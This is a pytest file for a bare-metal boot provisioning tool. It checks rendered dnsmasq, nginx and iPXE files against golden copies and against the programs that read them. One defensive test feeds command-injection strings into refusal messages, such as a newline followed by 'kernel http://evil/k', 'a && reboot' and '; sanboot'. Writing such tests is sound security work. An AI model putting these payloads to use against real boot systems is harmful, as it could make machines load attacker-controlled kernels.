"""Rendered files against golden files, and against the programs that read them."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from bmk.boot import dnsmasq, ipxe, nginx, server
from bmk.boot.decide import Install, Local, Refuse
from bmk.boot.grants import Grant
from bmk.datacenter.resolve import DataCenter

Golden = Callable[[str, str], None]
BOOT = Path("/var/lib/bmk/hall/boot")
URL = "http://10.20.0.2:8080"
GRANT = Grant("0123abcd", "cp-1", 1, (), None, "SN-0001", {}, None, "node-image", "a" * 64, "none", 0.0, 1.0)
SERVER = nginx.NginxServer("10.20.0.2", 8080, BOOT, Path("/srv/mirror/files"), "127.0.0.1:8081", dnsmasq.LOADER_DIR)


def test_dnsmasq_files_are_as_reviewed(hall: DataCenter, golden: Golden) -> None:
    """Configuration, hosts and options of a data center with an authoritative, a relayed and a proxy network."""
    for name, text in dnsmasq.render(hall, BOOT).items():
        golden(name, text)


def test_dnsmasq_understands_its_files(hall: DataCenter, tmp_path: Path) -> None:
    """`dnsmasq --test` accepts what is rendered."""
    server.write({tmp_path / name: text for name, text in dnsmasq.render(hall, tmp_path).items()})
    argv = ["dnsmasq", "--test", f"--conf-file={tmp_path}/dnsmasq.conf"]
    run = subprocess.run(argv, capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr


def test_a_new_host_changes_only_what_is_read_again(hall: DataCenter) -> None:
    """Adding or removing hosts never touches dnsmasq.conf, so dnsmasq is never restarted for it."""
    fewer = replace(hall, hosts={n: h for n, h in hall.hosts.items() if n != "worker-1"})
    before, after = dnsmasq.render(hall, BOOT), dnsmasq.render(fewer, BOOT)
    assert [name for name in before if before[name] != after[name]] == ["dnsmasq.hosts"]


def test_proxy_networks_hand_out_nothing(hall: DataCenter) -> None:
    """Beside an existing DHCP server there is no address, no router and nothing to boot for unknown machines."""
    files = dnsmasq.render(hall, BOOT)
    assert "10.30.0.11" not in files["dnsmasq.hosts"]
    assert "tag:office" not in files["dnsmasq.options"]
    services = [line for line in files["dnsmasq.conf"].splitlines() if line.startswith("pxe-service=")]
    assert services
    assert all(line.startswith("pxe-service=tag:office,tag:known,") for line in services)


def test_nginx_configuration_is_as_reviewed(golden: Golden) -> None:
    """nginx.conf, with the installer's own paths kept out of /files/."""
    golden("nginx.conf", nginx.render(SERVER, ["install-kernel/1/vmlinuz", "odd place/image.zst"]))


def test_nginx_understands_its_configuration(tmp_path: Path) -> None:
    """`nginx -t` accepts what is rendered, also with a socket path, another user and a space in a path."""
    files = tmp_path / "a mirror" / "files"
    files.mkdir(parents=True)
    for service, user in (("127.0.0.1:8081", None), ("unix:/run/bmk/boot.sock", "root")):
        made = nginx.NginxServer("127.0.0.1", 18080, tmp_path, files, service, dnsmasq.LOADER_DIR, user)
        path = tmp_path / "nginx.conf"
        path.write_text(nginx.render(made, ["install-kernel/1/vmlinuz", "odd place/image.zst"]))
        argv = ["nginx", "-t", "-e", "stderr", "-p", str(tmp_path), "-c", str(path)]
        run = subprocess.run(argv, capture_output=True, text=True, check=False)
        assert run.returncode == 0, run.stderr


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("install.ipxe", ipxe.script(Install(GRANT, "attempt 1"), "cp-1", URL)),
        ("local.ipxe", ipxe.script(Local("no install is granted"), "cp-1", URL)),
        ("refuse.ipxe", ipxe.script(Refuse("the machine's serial is X", "compare the BMC"), "cp-1", URL)),
        ("discover.ipxe", ipxe.discover(URL)),
    ],
)
def test_ipxe_scripts_are_as_reviewed(name: str, text: str, golden: Golden) -> None:
    """The four scripts a machine can get."""
    golden(name, text)


def test_the_installer_is_told_nothing_but_its_grant() -> None:
    """Boot URL, grant, way of proof, NIC and consoles are on the kernel command line: nothing secret, nothing else."""
    text = ipxe.script(Install(GRANT, ""), "cp-1", URL)
    kernel = next(line for line in text.splitlines() if line.startswith("kernel "))
    names = [word.partition("=")[0] for word in kernel.removesuffix(" || goto local").split()[2:]]
    assert names == ["initrd", "bmk.url", "bmk.grant", "bmk.attest", "BOOTIF", "console", "console"]


@pytest.mark.parametrize(
    "nasty", ["x\nkernel http://evil/k", "${net0/mac}", "a && reboot", "; sanboot", "naïve \x1b[2J"]
)
def test_text_from_machines_cannot_become_a_command(nasty: str) -> None:
    """Whatever the reason of a refusal says, and whoever chose parts of it: a script holds none of it."""
    assert ipxe.script(Refuse(nasty, nasty), "cp-1", URL) == ipxe.script(Local(""), "cp-1", URL)


def test_every_script_ends_at_the_local_disk() -> None:
    """Each line of the install script that can fail goes on to the local disk: sanboot or the next entry."""
    for text in (ipxe.script(Install(GRANT, ""), "cp-1", URL), ipxe.discover(URL)):
        risky = [line for line in text.splitlines() if line.split()[0] in ("kernel", "initrd", "boot", "chain")]
        assert all(line.endswith("|| goto local") for line in risky)
        assert text.endswith(ipxe.script(Local(""), "x", URL).split("goto local\n")[1])


def test_processes_are_the_same_for_lab_and_role(hall: DataCenter, tmp_path: Path, golden: Golden) -> None:
    """Four processes in the foreground, with every file they read; no secret in an argument."""
    made = server.processes(hall, tmp_path, tmp_path / "mirror", {})
    assert [process.name for process in made] == ["boot-service", "nginx", "dnsmasq", "registry"]
    written = {path for process in made for path in process.files}
    assert all(path.is_relative_to(tmp_path / "boot") for path in written)
    for process in made:
        assert any(str(path) in " ".join(process.argv) for path in process.files) or process.name == "boot-service"


def test_files_are_written_whole_and_only_when_they_changed(tmp_path: Path) -> None:
    """A second write of the same text changes nothing, and nothing else is left beside it."""
    target = tmp_path / "boot" / "dnsmasq.hosts"
    assert server.write({target: "one\n"}) == [target]
    assert server.write({target: "one\n"}) == []
    assert [path.name for path in target.parent.iterdir()] == ["dnsmasq.hosts"]
    assert target.stat().st_mode & 0o777 == 0o644
